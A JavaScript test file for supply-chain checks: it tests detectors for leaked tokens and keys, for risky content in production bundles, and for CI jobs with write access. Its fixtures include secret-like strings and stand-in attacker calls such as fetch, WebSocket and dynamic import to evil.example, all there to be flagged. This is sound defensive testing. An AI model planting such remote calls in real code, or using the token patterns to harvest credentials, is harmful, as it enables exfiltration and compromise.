// The checks of the step `supply` find what they look for.
import { expect, test } from 'vitest'
import { faultsIn, hostsIn } from './bundle.mjs'
import { bundled, differences, tableUnder } from './listed.mjs'
import { linksIn, pathsIn, rashJobsIn, secretsIn } from './repository.mjs'

// Assembled here, so that the repository itself contains no such text.
const random = 'aZ3k9QmX7tLr2VbN8wYc4HdJ6fGs1PeU5oIxTqRyKhB'
const hex = ['9f3c1a7be2d40586f1c8', 'a3975d2e6b04c7fa18d3'].join('')

test.each([
  ['a personal access token', `token = w_1893456000_${random}`],
  ['a session token', `Authorization: Token ${hex}`],
  ['a session token', `const KEY = '${hex}'`],
  ['a private key', `-----BEGIN ${'RSA'} PRIVATE KEY-----`],
  ['a key of GitHub', `ghp_${random.slice(0, 36)}`],
  ['a key of npm', `npm_${random.slice(0, 36)}`],
])('%s is found in a text, on its line', (what, text) => {
  expect(secretsIn(`first\n${text}\n`)).toEqual([`2: looks like ${what}`])
})

test.each([`w_1893456000_${'a'.repeat(43)}`, `'${'0123456789abcdef'.repeat(3).slice(0, 40)}'`, `uses: a/b@${hex}`])(
  'a value that is not random is no secret: %s',
  (text) => {
    expect(secretsIn(text)).toEqual([])
  },
)

const known = [
  'a.localStorage.setItem(e)',
  'http://www.w3.org/2000/svg https://mui.com/b https://react.dev/c http://localhost http://[$' + '{e}]',
].join('\n')

test('the known content of the production files passes', () => {
  expect(faultsIn(known, ['Sõber'])).toEqual([])
})

test.each([
  'eval("1")',
  'new Function("return 1")',
  '//# sourceMappingURL=index.js.map',
  'ReactQueryDevtools',
  '"/__faults/"',
  'localStorage.setItem("token",t)',
  'fetch("https://evil.example/")',
  'new WebSocket("wss://evil.example")',
  'import("//evil.example/x.js")',
  '"Maarika Sõber"',
])('%s in the production files is found', (text) => {
  expect(faultsIn(`${known}\n${text}`, ['Sõber'])).toHaveLength(1)
})

test('a known host that is missing is reported too', () => {
  expect(faultsIn(known.replace('https://mui.com/b', ''), [])).toEqual(['no longer names mui.com.'])
})

test('hosts are read without paths and duplicates', () => {
  expect(hostsIn('"https://a.example/x" `http://a.example?y` https://b.example#z')).toEqual(['a.example', 'b.example'])
})

test('the build’s list is read with each package’s license text', () => {
  const text = '# Licenses\n\n## a - 1.0.0 (MIT)\n\nTerms.\n## Heading of terms\nMore.\n## @b/c - 2.0.0\n'
  expect(bundled(text)).toEqual([
    { name: 'a', version: '1.0.0', license: 'MIT', terms: 'Terms.\n## Heading of terms\nMore.' },
    { name: '@b/c', version: '2.0.0', license: 'none', terms: '' },
  ])
})

test('a table is read only under its heading, and compared in both directions', () => {
  const markdown = '## One\n\n| a | b |\n| --- | --- |\n| `x` | 1 |\n\n## Two\n\n| a |\n| --- |\n| `y` |\n'
  expect(tableUnder('One', markdown)).toEqual([['`x`', '1']])
  expect(differences(['x', 'x', 'gone'], ['x', 'new'], 'One')).toEqual([
    'new is not listed under "One".',
    `gone is listed under "One", but isn't a package here.`,
    'x is listed twice under "One".',
  ])
})

test('paths are distinguished from other words in backticks', () => {
  expect(pathsIn('`src/a.ts`, `npm test`, `b.md`, `.npmrc`, `.github/workflows/c.yml`, `Token`, `@d/e`')).toEqual([
    'src/a.ts',
    'b.md',
    '.npmrc',
    '.github/workflows/c.yml',
  ])
})

test('links to files are read, but not those to the web and to headings', () => {
  const links = '[a](docs/a.md) ![b](b.png) [c](../deploy#tls) [d](https://d.example/e) [f](#f) [g](mailto:g@h.example)'
  expect(linksIn(links)).toEqual(['docs/a.md', 'b.png', '../deploy'])
})

test('finds a job with write permission that runs our code, and no other', () => {
  const job = (name, ...lines) => [`  ${name}:`, ...lines.map((line) => `    ${line}`)].join('\n')
  const [write, tests] = ['  contents: write', '- run: bash .ci/run']
  const alone = ['permissions:\n  contents: read\n\njobs:', job('build', tests), job('publish', write, '- run: gh')]
  expect(rashJobsIn(alone.join('\n'))).toEqual([])
  expect(rashJobsIn([...alone, job('release', write, tests)].join('\n'))).toEqual(['release'])
  expect(rashJobsIn(alone.join('\n').replace('contents: read', 'contents: write'))).toEqual(['build'])
})
